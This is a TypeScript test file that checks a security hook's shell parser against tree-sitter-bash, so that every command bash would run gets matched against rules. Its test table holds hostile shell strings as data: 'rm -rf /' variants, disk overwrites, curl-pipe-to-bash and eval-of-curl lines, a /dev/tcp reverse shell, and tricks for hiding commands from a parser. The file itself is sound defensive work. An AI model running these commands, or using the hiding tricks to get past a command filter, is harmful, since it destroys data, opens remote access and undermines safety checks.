// Differential test of the shell parser against tree-sitter-bash (a development dependency, loaded only here:
// the hook never loads it). For each command, the simple commands tree-sitter finds — name and arguments after
// quote removal, every word holding an expansion written as `$` — must be the ones parser.ts hands to its sink
// (plus the substitutions of unquoted heredoc bodies, which analyze.ts parses with parseExpansions). A command
// tree-sitter sees and we do not is a command no rule is matched against: a potential bypass.
//
// The commands are a hand-written table and fast-check programs drawn from a small grammar. Known differences,
// each deliberate or a tree-sitter limitation, are listed in DIFFERENCES with the exact difference expected.
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { before, describe, test } from 'node:test';
import fc from 'fast-check';
import { Language, type Node, Parser } from 'web-tree-sitter';
import { parseExpansions, parseShell } from './parser';
import type { ParsedCommand, ParseSink } from './syntax';
import type { Word } from './word';
import { decodeAnsiC } from './ansi-c';

/** A simple command as both sides are compared: its words, JSON-encoded. */
type CommandKey = string;

const EXPANSION = '$';

// ---------------------------------------------------------------------------------------------------------------
// Our side: a sink that keeps every simple command's words.

class WordCollector implements ParseSink {
  readonly commands: CommandKey[] = [];

  command(command: ParsedCommand): void {
    // `[ … ]` is a test_command to tree-sitter, not a command: left out on both sides.
    if (command.words.length > 0 && !(command.words[0]!.text === '[' && !command.words[0]!.quoted)) {
      this.commands.push(JSON.stringify(command.words.map(wordKey)));
    }
    for (const redirect of command.redirects) {
      const heredoc = redirect.heredoc;
      if (heredoc?.body !== undefined && !heredoc.quoted) parseExpansions(heredoc.body, command.depth + 1, this);
    }
  }
  pipeline(): void {}
  subshell(): void {}
  loop(): void {}
  truncate(): void {}
  nestedCode(): void {}
  spend(): void {}
}

const wordKey = (word: Word): string => (word.parts ? EXPANSION : word.text);

function ourCommands(command: string): CommandKey[] {
  const sink = new WordCollector();
  parseShell(command, 0, sink);
  return sink.commands;
}

// ---------------------------------------------------------------------------------------------------------------
// tree-sitter's side.

let parser: Parser;

before(async () => {
  await Parser.init();
  const wasm = createRequire(import.meta.url).resolve('tree-sitter-bash/tree-sitter-bash.wasm');
  const bash = await Language.load(wasm);
  parser = new Parser();
  parser.setLanguage(bash);
});

/** Backslash escapes inside double quotes: only before `$`, `` ` ``, `"`, `\` and a newline. */
const unescapeDoubleQuoted = (text: string) => text.replace(/\\([$`"\\\n])/g, (_, c: string) => (c === '\n' ? '' : c));
const unescapeBare = (text: string) => text.replace(/\\(.)/gs, (_, c: string) => (c === '\n' ? '' : c));

const EXPANSION_NODES = new Set([
  'simple_expansion',
  'expansion',
  'command_substitution',
  'process_substitution',
  'arithmetic_expansion',
]);

/** A word after quote removal; undefined when it holds an expansion. */
function literal(node: Node): string | undefined {
  switch (node.type) {
    case 'word':
      return unescapeBare(node.text);
    case 'number':
    case 'brace_expression':
      return node.text;
    case 'array':
      // `NAME=(…)`: our parser keeps an array assignment as a word with parts, whatever it holds.
      return undefined;
    case 'raw_string':
      return node.text.slice(1, -1);
    case 'ansi_c_string':
      return decodeAnsiC(node.text.slice(2, -1));
    case 'string':
    case 'translated_string':
      if (node.namedChildren.some((child) => child?.type !== 'string_content')) return undefined;
      return unescapeDoubleQuoted(node.text.slice(node.type === 'string' ? 1 : 2, -1));
    case 'concatenation': {
      // Pieces the grammar leaves unnamed between children (a bare `$`, `=`) are literal text.
      let out = '';
      let at = node.startIndex;
      for (const child of node.children) {
        if (!child) continue;
        out += unescapeBare(node.tree.rootNode.text.slice(at, child.startIndex));
        const piece = child.isNamed ? literal(child) : child.text;
        if (piece === undefined) return undefined;
        out += piece;
        at = child.endIndex;
      }
      return out;
    }
    default:
      if (EXPANSION_NODES.has(node.type)) return undefined;
      return node.text;
  }
}

const key = (node: Node | null): string => (node ? (literal(node) ?? EXPANSION) : EXPANSION);

function assignmentText(node: Node): string {
  const name = node.childForFieldName('name');
  const value = node.childForFieldName('value');
  const operator = node.children.find((child) => child && !child.isNamed && /=/.test(child.type));
  if (!name) return node.text;
  const head = `${name.text}${operator?.type ?? '='}`;
  if (!value) return head;
  const text = literal(value);
  return text === undefined ? EXPANSION : head + text;
}

function theirCommands(command: string): { commands: CommandKey[]; error: boolean } {
  const tree = parser.parse(command);
  if (!tree) throw new Error('tree-sitter gave no tree');
  const commands: CommandKey[] = [];
  const visit = (node: Node): void => {
    if (node.type === 'command') {
      const words: string[] = [];
      node.children.forEach((child, i) => {
        const field = node.fieldNameForChild(i);
        if (child && (field === 'name' || field === 'argument')) {
          words.push(key(field === 'name' ? child.firstNamedChild : child));
        }
      });
      if (words.length > 0) commands.push(JSON.stringify(words));
    } else if (node.type === 'declaration_command' || node.type === 'unset_command') {
      const words: string[] = [node.firstChild!.text];
      for (const child of node.namedChildren) {
        if (!child) continue;
        words.push(child.type === 'variable_assignment' ? assignmentText(child) : key(child));
      }
      commands.push(JSON.stringify(words));
    }
    for (const child of node.namedChildren) if (child) visit(child);
  };
  visit(tree.rootNode);
  const error = tree.rootNode.hasError;
  tree.delete();
  return { commands, error };
}

// ---------------------------------------------------------------------------------------------------------------
// The comparison.

interface Difference {
  /** Commands only tree-sitter finds: ones we would not match rules against. */
  missed: string[][];
  /** Commands only we find. */
  extra: string[][];
}

function difference(command: string): Difference & { error: boolean } {
  const ours = new Set(ourCommands(command));
  const theirs = theirCommands(command);
  const setOfTheirs = new Set(theirs.commands);
  const decode = (keys: CommandKey[]) => keys.map((k) => JSON.parse(k) as string[]);
  return {
    missed: decode([...setOfTheirs].filter((k) => !ours.has(k)).sort()),
    extra: decode([...ours].filter((k) => !setOfTheirs.has(k)).sort()),
    error: theirs.error,
  };
}

/**
 * Known differences: the input, the difference expected exactly (or, where tree-sitter-bash cannot parse the
 * input at all, the commands we must find), and why it is not a bypass.
 */
const DIFFERENCES: (Partial<Difference> & { command: string; why: string; unparsed?: string[][] })[] = [
  {
    command: 'coproc cat file',
    missed: [['coproc', 'cat', 'file']],
    extra: [['cat', 'file']],
    why: 'tree-sitter-bash has no coproc: it reads the reserved word as a command name; bash runs `cat file`',
  },
  {
    command: 'coproc NAME { rm -rf /; }',
    missed: [['coproc', 'NAME', '{', 'rm', '-rf', '/'], ['}']],
    extra: [['rm', '-rf', '/']],
    why: 'as above; bash runs the group as the coprocess NAME (bash -c "coproc N { echo ran >&2; }" prints ran)',
  },
  {
    command: 'coproc N if rm -rf /; then :; fi',
    missed: [['coproc', 'N', 'if', 'rm', '-rf', '/'], ['fi'], ['then', ':']],
    extra: [[':'], ['rm', '-rf', '/']],
    why: 'as above, with an if statement',
  },
  {
    command: 'echo `echo \\`whoami\\``',
    missed: [['echo', '`whoami`']],
    extra: [['whoami']],
    why: 'tree-sitter-bash does not unescape \\` inside backticks: bash runs echo `whoami`, so whoami runs too',
  },
  {
    command: 'echo a > f b',
    missed: [['echo', 'a']],
    extra: [['echo', 'a', 'b']],
    why: 'tree-sitter-bash reads every word after a redirection as its target; bash: only the first (echo a b > f)',
  },
  {
    command: 'echo a > f rm -rf /',
    missed: [['echo', 'a']],
    extra: [['echo', 'a', 'rm', '-rf', '/']],
    why: 'as above: tree-sitter-bash takes `rm -rf /` for redirection targets; they are arguments of echo',
  },
  {
    command: '! { rm -rf /; }',
    missed: [['{', 'rm', '-rf', '/'], ['}']],
    extra: [['rm', '-rf', '/']],
    why: 'tree-sitter-bash reads `!` before a compound command as negating a command named `{`; bash runs rm -rf /',
  },
  {
    command: '! for d in /; do rm -rf $d; done',
    missed: [['do', 'rm', '-rf', '$'], ['done'], ['for', 'd', 'in', '/']],
    extra: [['rm', '-rf', '$']],
    why: 'as above, with `for` read as a command name',
  },
  {
    command: 'echo `rm -rf /` `ls`',
    missed: [
      ['echo', '$'],
      ['rm', '-rf', '/` `ls'],
    ],
    extra: [['echo', '$', '$'], ['ls'], ['rm', '-rf', '/']],
    why: 'tree-sitter-bash reads two backtick substitutions in one command as one; bash runs rm -rf / and ls',
  },
  {
    command: 'a | b | c\nrm -rf / > out',
    missed: [['c', 'rm', '-rf', '/']],
    extra: [['c'], ['rm', '-rf', '/']],
    why: 'tree-sitter-bash joins the line after a pipeline of three to its last command when it has a redirection',
  },
  {
    command: 'echo } }',
    missed: [['echo', '} }']],
    extra: [['echo', '}', '}']],
    why: 'tree-sitter-bash reads `} }` as one word; bash splits it',
  },
  {
    command: 'echo { [[',
    missed: [['echo', '{ [[']],
    extra: [['echo', '{', '[[']],
    why: 'tree-sitter-bash reads `{ [[` as one word; bash splits it',
  },
  {
    command: 'case a in a) echo esac; ls;; *) rm -rf /;; esac',
    unparsed: [['echo', 'esac'], ['ls'], ['rm', '-rf', '/']],
    why: 'tree-sitter-bash takes an `esac` argument for the end of the case; to bash it is a word (echo esac)',
  },
  {
    command: 'cat <<EOF; rm -rf /\nbody\nEOF',
    unparsed: [['cat'], ['rm', '-rf', '/']],
    why: 'tree-sitter-bash cannot parse a command after a heredoc operator on its line',
  },
  {
    command: 'cat << EOF\n\\$(rm -rf /)\nEOF',
    unparsed: [['cat']],
    why: 'tree-sitter-bash cannot parse an escaped $ starting a heredoc line; bash prints $(rm -rf /) as text',
  },
  {
    command: 'arr[$(rm -rf /)]=1',
    extra: [['$']],
    why: 'an element assignment whose subscript holds a substitution is read as a command named by an expansion (its view is unknown, so the call is not let through on it); both find rm -rf /',
  },
  {
    command: '{rm -rf /;}',
    missed: [['rm', '-rf', '/']],
    extra: [['{rm', '-rf', '/']],
    why: 'bash has no group here: `{rm` is a word (command not found), and the lone `}` makes the script a syntax error that runs nothing; tree-sitter-bash opens a group',
  },
  {
    command: 'echo ${x:-`rm -rf /`}',
    extra: [['rm', '-rf', '/']],
    why: 'tree-sitter-bash does not look inside backticks in ${…}; bash runs rm -rf / when x is unset',
  },
  {
    command: 'echo $"$(rm -rf /)"',
    missed: [['echo', '$', '$']],
    extra: [['echo', '$']],
    why: 'tree-sitter-bash splits $"…" (a translated string, one word) into two words',
  },
  {
    command: 'time { rm -rf /; }',
    missed: [['time', '{', 'rm', '-rf', '/'], ['}']],
    extra: [['rm', '-rf', '/']],
    why: 'tree-sitter-bash reads the reserved word time before a group as a command name',
  },
  {
    command: 'r\\\nm -rf /',
    missed: [['r', 'm', '-rf', '/']],
    extra: [['rm', '-rf', '/']],
    why: 'tree-sitter-bash splits a word at a line continuation; bash joins it (rm)',
  },
  {
    command: 'rm -r\\\nf /',
    missed: [['rm', '-r', 'f', '/']],
    extra: [['rm', '-rf', '/']],
    why: 'as above (-rf)',
  },
  {
    command: 'cmd <> rw',
    unparsed: [['cmd']],
    why: 'tree-sitter-bash has no <> (open for reading and writing)',
  },
  {
    command: 'cat <<A; cat <<B\na\nA\nb\nB',
    unparsed: [['cat'], ['cat']],
    why: 'tree-sitter-bash reads only one heredoc per line when the commands are separate',
  },
];

/**
 * Commands bash runs that our parser does not hand over as commands: bypasses found by this test and not fixed
 * yet, each with what bash runs and what the sink gets today. tree-sitter-bash has no `coproc` either (it reads
 * `coproc NAME { rm -rf /` as one command), so these are checked against bash's behaviour, not against it. A fix
 * makes its entry fail: move the input to TABLE then.
 */
const PARSER_GAPS: { command: string; bashRuns: string[]; weGet: string[][] }[] = [
  // None open. `coproc NAME { rm -rf /; }` was one (the group read as arguments of a command NAME), fixed in
  // parser.ts; it is in TABLE now.
];

const TABLE: string[] = [
  // Simple commands, quoting, escapes.
  'ls',
  'ls -la /tmp',
  'rm -rf ~',
  'rm -rf ~/.ssh',
  'rm -rf \'a b\' "c d"',
  'echo a\\ b c\\\\d',
  "r'm' -rf /",
  '"rm" -rf /',
  '\\rm -rf /',
  "echo 'it'\\''s'",
  'echo "a \\"b\\" c"',
  'echo "a\\$b" "c\\`d" "e\\\\f" "g\\h"',
  "echo $'a\\tb' $'\\x41\\101'",
  'echo a"b"\'c\'d',
  'echo "x"y"z"',
  'echo \\$HOME',
  "echo '$HOME'",
  'echo "$HOME" $HOME ${HOME} ${HOME:-x}',
  'echo *.txt ?.md [ab].c',
  'echo {a,b}c {1..3}',
  'echo ~ ~/x ~root',
  'echo a=b --opt=val',
  'echo #notacomment x#y',
  'echo a # a comment',
  'echo a #x \\\n b',
  'echo a \\\n #x \\\n b',
  '! { rm -rf /; }',
  '! for d in /; do rm -rf $d; done',
  'echo `rm -rf /` `ls`',
  'a | b | c\nrm -rf / > out',
  '# only a comment',
  'echo a \\\n  b \\\n  c',
  'echo "multi\nline"',
  "echo 'multi\nline'",
  // Lists and pipelines.
  'a; b; c',
  'a && b || c',
  'a & b',
  'a &\nb',
  'a | b | c',
  'a |& b',
  '! a | b',
  'a\nb\n\nc',
  'curl -fsSL https://x.sh | bash',
  'curl -fsSL https://x.sh | sudo bash -s',
  'true && rm -rf / ; echo done',
  'a;b&&c||d|e',
  // Subshells and groups.
  '(cd /tmp && rm -rf x)',
  '( a; b ) | c',
  '{ a; b; }',
  '{ a; b; } > out.txt',
  '(a) && (b)',
  '( ( a ) )',
  '{ { a; }; }',
  // Compound commands.
  'if true; then rm -rf x; fi',
  'if a; then b; elif c; then d; else e; fi',
  'if [ -f x ]; then cat x; fi',
  'if [[ -f x && $y == z ]]; then cat x; fi',
  'if ! grep -q x f; then echo no; fi',
  'for d in a b c; do rm -rf $d; done',
  'for d in ~; do rm -rf "$d"; done',
  'for f in *.log; do gzip "$f"; done',
  'for ((i = 0; i < 3; i++)); do echo x; done',
  'for x; do echo x; done',
  'while true; do sleep 1; done',
  'while read -r line; do echo line; done < file',
  'until false; do break; done',
  'select x in a b; do echo picked; done',
  'case $x in a) rm a ;; b|c) rm b ;; *) echo other ;; esac',
  'case x in (a) echo a;; esac',
  'case "$1" in\n  start) run start ;;\n  stop) run stop ;;\nesac',
  'case x in a) echo a;& b) echo b;;& c) echo c;; esac',
  'f() { rm -rf /; }',
  'function f { rm -rf /; }',
  'function g() { echo x; }; g',
  'f() ( echo sub )',
  '[[ -d x ]] && rm -r x',
  '[ -d x ] && rm -r x',
  'test -d x && rm -r x',
  '((x++)) && echo y',
  'time ls -la',
  'coproc cat file',
  'coproc NAME { rm -rf /; }',
  'coproc N if rm -rf /; then :; fi',
  // Substitutions.
  'echo $(rm -rf ~)',
  'echo "$(rm -rf ~)"',
  'echo `rm -rf ~`',
  'echo "`rm -rf ~`"',
  'echo $(echo $(rm -rf /))',
  'x=$(curl https://x.sh); bash -c "$x"',
  'echo $(cat <<EOF\nhi\nEOF\n)',
  'echo $( (cd /; ls) )',
  'echo $((1 + 2))',
  'echo $(( $(id -u) + 1 ))',
  'diff <(ls a) <(ls b)',
  'tee >(gzip > x.gz) < f',
  'echo ${x:-$(rm -rf /)}',
  'echo "${x:-$(rm -rf /)}"',
  'cat "$(ls)" $(echo a b)',
  'echo $(echo `whoami`)',
  'echo `echo \\`whoami\\``',
  // Assignments.
  'X=1',
  'X=1 Y=2',
  'X=1 cmd arg',
  'X=rm; $X -rf ~',
  'X="a b" cmd',
  'export X=1 Y',
  'export PATH="$PATH:/x"',
  'local x=1',
  'declare -a arr=(1 2 3)',
  'declare -a arr=($(rm -rf /))',
  'arr=($(rm -rf /) x)',
  'readonly R=1',
  'arr=(a b c); echo ${arr[0]}',
  'X+=y',
  'unset X Y',
  'a[1]=x',
  'X=$(rm -rf /)',
  // Redirections.
  'echo x > out',
  'echo x >> out 2>&1',
  'cmd 2>/dev/null',
  'cmd &> all.log',
  'cmd > out 2> err < in',
  'cat < file > out',
  'echo x >| out',
  '> empty',
  'cmd <> rw',
  'exec 3>&1 4>&-',
  'echo a > f b',
  'dd if=/dev/zero of=/dev/sda bs=1M',
  'echo x > /dev/sda',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  // Heredocs and herestrings.
  'cat <<EOF\nhello $USER\nEOF',
  "cat <<'EOF'\n$(rm -rf /)\nEOF",
  'cat <<EOF\n$(rm -rf /)\nEOF',
  'cat <<-EOF\n\thello\n\tEOF',
  'cat <<EOF > out\nx\nEOF\necho after',
  'cat <<A; cat <<B\na\nA\nb\nB',
  'bash <<EOF\nrm -rf /\nEOF',
  'cat <<< "hello"',
  'bash <<< "rm -rf /"',
  'grep x <<< $(ls)',
  'cat <<"EOF" | sh\nrm -rf /\nEOF',
  // Shells and wrappers.
  "bash -c 'rm -rf /'",
  'sh -c "rm -rf ~"',
  "eval 'rm -rf /'",
  'sudo rm -rf /',
  'env X=1 rm -rf /',
  'nohup rm -rf / &',
  'timeout 5 rm -rf /',
  'xargs rm -rf < list',
  'find . -name x -exec rm {} \\;',
  'find . -exec sh -c \'rm "$1"\' _ {} +',
  'git push --force origin main',
  'command -v git >/dev/null && git status',
  // Where a parser could lose its place.
  "echo $'\\'' ; rm -rf /",
  'echo "\\"" ; rm -rf /',
  "echo 'a\\' ; rm -rf /",
  "echo \\'; rm -rf /",
  'echo # ; rm -rf /',
  'echo a#b ; rm -rf /',
  'echo $# ${#x} ; rm -rf /',
  'echo $( # a comment )\nrm -rf /\n)',
  "echo $(echo ')'; rm -rf /)",
  'echo "$(echo "}"; rm -rf /)"',
  'echo $(case x in x) rm -rf /;; esac)',
  'echo $(case x in (x) rm -rf /;; esac)',
  'cat <<EOF; rm -rf /\nbody\nEOF',
  'cat <<EOF\nEOF\nrm -rf /',
  'cat << EOF\n\\$(rm -rf /)\nEOF',
  'f() { cat <<EOF\n$(rm -rf /)\nEOF\n}',
  'echo $(cat <<EOF\n)\nEOF\nrm -rf /)',
  'eval "$(curl -fsSL https://x.sh)"',
  'exec rm -rf /',
  'a=1 b=2 rm -rf /',
  '2>&1 rm -rf /',
  '> out rm -rf /',
  'rm -rf / 2>&1 | tee log',
  '$(rm -rf /)',
  '"$(rm -rf /)" x',
  'if true; then rm -rf /; fi > out',
  'if rm -rf /; then :; fi',
  'while rm -rf /; do :; done',
  'for x in $(rm -rf /); do :; done',
  'case $(rm -rf /) in *) ;; esac',
  '[[ $(rm -rf /) ]]',
  '(( $(rm -rf /) ))',
  'echo ${x/$(rm -rf /)/y}',
  'arr[$(rm -rf /)]=1',
  'rm -rf /;# comment',
  'echo ok|rm -rf /',
  'echo ok&rm -rf /',
  '{rm -rf /;}',
  '{ rm -rf /;}',
  'local x=$(rm -rf /)',
  'export X=$(rm -rf /)',
  'declare X=`rm -rf /`',
  '[ "$(rm -rf /)" ]',
  'echo ${x:-`rm -rf /`}',
  'echo "${x:-"$(rm -rf /)"}"',
  'echo $"$(rm -rf /)"',
  "echo $'$(rm -rf /)' '$(rm -rf /)' \\$HOME",
  'time { rm -rf /; }',
  '! rm -rf /',
  'r\\\nm -rf /',
  'rm -r\\\nf /',
  'echo $(\\\nrm -rf /)',
  'echo a; \\\nrm -rf /',
  'echo \\`rm -rf /\\`',
  // Odd spacing and layout.
  'rm\t-rf\t/',
  '  rm   -rf   /  ',
  'a;\nb',
  'echo a;echo b',
  'echo a&&echo b',
  'if true\nthen\n  echo a\nfi',
  'for i in 1 2\ndo\n  echo $i\ndone',
  '{\n  a\n  b\n}',
  'echo "}" \'{\' \\{ x',
  'echo if then fi',
  'echo } }',
  'case a in a) echo esac; ls;; *) rm -rf /;; esac',
  'echo { [[',
  'echo done; echo fi',
  'echo a > f rm -rf /',
];

describe('the shell parser against tree-sitter-bash', () => {
  const known = new Map(DIFFERENCES.map((d) => [d.command, d]));

  test('the table has no duplicate and every listed difference is in it', () => {
    assert.equal(new Set(TABLE).size, TABLE.length);
    for (const d of DIFFERENCES) assert.ok(TABLE.includes(d.command), `not in TABLE: ${JSON.stringify(d.command)}`);
  });

  for (const gap of PARSER_GAPS) {
    test(`known parser gap: ${JSON.stringify(gap.command)}`, () => {
      const ours = ourCommands(gap.command).map((k) => JSON.parse(k) as string[]);
      assert.deepEqual(
        ours,
        gap.weGet,
        'the parser reads it differently now: if it hands over what bash runs, move it to TABLE',
      );
    });
  }

  for (const command of TABLE) {
    test(JSON.stringify(command), () => {
      const { missed, extra, error } = difference(command);
      const expected = known.get(command);
      if (expected?.unparsed) {
        assert.equal(error, true, 'tree-sitter-bash parses it now: compare instead');
        const ours = ourCommands(command).map((k) => JSON.parse(k) as string[]);
        assert.deepEqual(ours, expected.unparsed);
        return;
      }
      assert.equal(error, false, 'tree-sitter-bash could not parse it');
      assert.deepEqual({ missed, extra }, { missed: expected?.missed ?? [], extra: expected?.extra ?? [] });
    });
  }
});

// ---------------------------------------------------------------------------------------------------------------
// Generated programs.

const NAMES = ['rm', 'ls', 'cat', 'echo', 'git', 'curl', 'x-y', 'a.b', 'sudo', 'env'];
const ARGS = ['-rf', '/', '~', '~/.ssh', 'a', 'b.txt', '--force', '-n', '1', 'x=y', 'main'];

const literalWord = fc.oneof(
  fc.constantFrom(...ARGS),
  fc.constantFrom(...ARGS).map((w) => `'${w}'`),
  fc.constantFrom(...ARGS).map((w) => `"${w}"`),
  fc.constantFrom(...ARGS).map((w) => `\\${w}`),
  fc.constantFrom("'a b'", '"c d"', 'a\\ b', "'it'\\''s'", '"q\\"q"', "$'t\\tx'", 'p"q"r', "''x"),
  fc.constantFrom('if', 'then', 'done', 'in', '!', 'function', 'coproc', '[[', 'time', '='),
);
const nameWord = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NAMES) },
  { weight: 1, arbitrary: fc.constantFrom(...NAMES).map((w) => `'${w}'`) },
  { weight: 1, arbitrary: fc.constantFrom(...NAMES).map((w) => `\\${w}`) },
);
/** A command without substitutions, for backticks (nested backticks need escaping of their own). */
const plainCommand = fc
  .tuple(nameWord, fc.array(literalWord, { maxLength: 3 }))
  .map(([name, args]) => [name, ...args].join(' '));
const space = fc.constantFrom(' ', ' ', '  ', '\t', ' \\\n ');
const redirect = fc.constantFrom('> out', '2>&1', '< in', '>> log', '2>/dev/null', '<<< word', '&> all');

const { list } = fc.letrec<{ list: string; pipeline: string; command: string; simple: string }>((tie) => ({
  simple: fc
    .tuple(
      fc.option(fc.constantFrom('X=1', 'Y=$HOME', 'Z="a b"'), { nil: undefined }),
      nameWord,
      fc.array(
        fc.oneof(
          { depthIdentifier: 'program', maxDepth: 3 },
          { weight: 6, arbitrary: literalWord },
          { weight: 1, arbitrary: tie('list').map((l) => `"$(${l})"`) },
          { weight: 1, arbitrary: tie('list').map((l) => `$( ${l} )`) },
          { weight: 1, arbitrary: tie('list').map((l) => `<(${l})`) },
          { weight: 1, arbitrary: plainCommand.map((c) => `\`${c}\``) },
          // Inside double quotes, `\"` in backticks loses its backslash: a body with quotes of its own would not parse.
          { weight: 1, arbitrary: plainCommand.filter((c) => !c.includes('"')).map((c) => `"x\`${c}\`y"`) },
          { weight: 1, arbitrary: fc.constantFrom('$HOME', '"$X"', '${Y:-z}', '$((1+2))') },
        ),
        { maxLength: 4 },
      ),
      fc.option(redirect, { nil: undefined }),
      space,
    )
    .map(([assignment, name, args, redir, sp]) =>
      [...(assignment ? [assignment] : []), name, ...args, ...(redir ? [redir] : [])].join(sp),
    ),
  command: fc.oneof(
    { depthIdentifier: 'program', maxDepth: 3 },
    { weight: 6, arbitrary: tie('simple') },
    { weight: 1, arbitrary: tie('list').map((l) => `( ${l} )`) },
    { weight: 1, arbitrary: tie('list').map((l) => `{ ${l}; }`) },
    { weight: 1, arbitrary: fc.tuple(tie('list'), tie('list')).map(([c, b]) => `if ${c}; then ${b}; fi`) },
    { weight: 1, arbitrary: tie('list').map((b) => `for d in a 'b c'; do ${b}; done`) },
    { weight: 1, arbitrary: tie('list').map((b) => `while false; do ${b}; done`) },
    { weight: 1, arbitrary: tie('list').map((b) => `case $x in a|b) ${b};; *) ${b};; esac`) },
    { weight: 1, arbitrary: tie('list').map((b) => `f() { ${b}; }`) },
    { weight: 1, arbitrary: tie('list').map((b) => `function g { ${b}; }`) },
    { weight: 1, arbitrary: tie('list').map((b) => `{ ${b}; } > out`) },
    // `!` before a simple command only: tree-sitter-bash reads `! {`, `! for`, `! if` as commands named `{`, `for`….
    { weight: 1, arbitrary: tie('simple').map((c) => `! ${c}`) },
    { weight: 1, arbitrary: tie('list').map((l) => `[[ -n "$(${l})" && -f a ]]`) },
    { weight: 1, arbitrary: fc.tuple(tie('list'), tie('list')).map(([c, b]) => `while ${c}; do ${b}; done`) },
  ),
  pipeline: fc
    .array(tie('command'), { minLength: 1, maxLength: 3 })
    .chain((commands) => fc.constantFrom(' | ', '|', ' |& ').map((pipe) => commands.join(pipe))),
  list: fc
    // No newline between commands: tree-sitter-bash glues some lines together (`a | b | c\nd > out` reads as
    // `a | (b | c d) > out`; see DIFFERENCES), where bash runs what we read. The table has newlines.
    .array(fc.tuple(tie('pipeline'), fc.constantFrom('; ', ' && ', ' || ', ' & ')), {
      minLength: 1,
      maxLength: 3,
    })
    .map((items) => items.map(([p, sep], i) => (i === items.length - 1 ? p : p + sep)).join('')),
}));
/** A whole program, perhaps with a comment after it. */
const program = fc
  .tuple(list, fc.option(fc.constantFrom(' # rm -rf / $(x)', ' #', "\n# 'x"), { nil: undefined }))
  .map(([code, comment]) => code + (comment ?? ''));

test('generated programs: the same simple commands as tree-sitter-bash', () => {
  const runs = 400;
  let unparsed = 0;
  fc.assert(
    fc.property(
      // tree-sitter-bash reads two backtick substitutions in one line as one (`echo \`a\` \`b\``).
      program.filter((code) => code.length < 600 && (code.match(/`/g) ?? []).length <= 2),
      (code) => {
        const { missed, extra, error } = difference(code);
        // A program tree-sitter-bash cannot parse says nothing about ours; there must be few of them.
        if (error) {
          unparsed += 1;
          return;
        }
        assert.deepEqual({ missed, extra }, { missed: [], extra: [] }, JSON.stringify(code));
      },
    ),
    { seed: 42, numRuns: runs, includeErrorInReport: true },
  );
  assert.ok(unparsed < runs / 10, `${unparsed} of ${runs} programs unparsed by tree-sitter-bash`);
});
